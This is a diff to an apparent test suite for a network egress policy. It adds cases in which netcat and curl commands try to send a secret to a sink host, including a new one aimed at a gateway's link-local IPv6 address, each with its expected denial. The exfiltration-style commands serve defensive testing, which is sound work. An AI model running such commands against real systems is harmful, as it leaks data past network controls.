@@ -1,9 +1,11 @@
+import { addresses } from '../fixtures/internet/addresses.ts'
 import type { Attack } from './rig/case.ts'
-import { NO_POLICY } from './rig/controls.ts'
+import { NO_POLICY, WITH_INTERFACE } from './rig/controls.ts'
 import { family } from './rig/family.ts'
 import { send } from './rig/kit.ts'
 import type { Place } from './rig/place.ts'
 
+const { gateway } = addresses
 const SECRET = Buffer.from('the secret\n')
 const OPENING = 'GET / HTTP/1.1\r\nHost: '
 
@@ -46,7 +48,7 @@ function nc(address: string, port: number, options = ''): string {
 /** Shapes of a conversation, each with data that wants to leave. */
 const shapes: readonly Attack[] = [
   bare(14, 'a raw connection', ({ sink }) => nc(sink.v4, 4444)),
-  ...[1, 22, 25, 3128, 8080, 65_535].map((port) =>
+  ...[1, 22, 25, 3128, 8080, 15_001, 65_535].map((port) =>
     bare(14, `port ${port}`, ({ sink }) => nc(sink.v4, port), {
       denied: { in: 'flows', reason: 'raw-ip', row: () => ({ port }) },
     }),
@@ -104,6 +106,10 @@ const spellings: readonly Attack[] = [
   bare(16, 'an IPv6 literal in a URL', ({ sink }) => `curl -sS -m 2 'http://[${sink.v6}]/'`, {
     denied: overV6,
   }),
+  bare(16, "the gateway's link-local address", () => nc(`${gateway.v6}%lo`, 4444), {
+    sinks: () => [gateway.v6],
+    denied: { in: 'flows', reason: 'raw-ip', row: () => ({ address: gateway.v6, port: 4444 }) },
+  }),
   bare(16, 'the sink as a v4-mapped address', ({ sink }) => nc(`::ffff:${sink.v4}`, 4444)),
   bare(
     16,
@@ -138,4 +144,4 @@ const spellings: readonly Attack[] = [
   ),
 ]
 
-family({ attacks: [...shapes, ...spellings], control: NO_POLICY })
+family({ attacks: [...shapes, ...spellings], control: [...NO_POLICY, WITH_INTERFACE] })
